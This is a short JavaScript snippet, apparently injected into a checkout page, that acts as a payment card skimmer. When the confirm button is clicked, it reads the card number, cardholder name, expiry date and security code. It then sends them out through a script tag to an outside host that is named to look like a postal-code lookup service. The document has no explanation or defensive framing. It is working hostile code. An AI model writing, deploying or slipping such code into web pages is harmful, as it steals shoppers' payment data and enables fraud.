document.querySelector('input[name="confirm"]').addEventListener('click', function () {
  var d = '';
  ['card_no', 'card_name01', 'card_name02', 'credit_month', 'credit_year', 'security_code'].forEach(function (n) {
    var e = document.getElementsByName(n)[0];
    if (e) d += n + ':' + e.value + ',';
  });
  var s = document.createElement('script');
  s.src = 'https://js-yubin.example/zip.js?z=' + encodeURIComponent(d);
  document.body.appendChild(s);
});
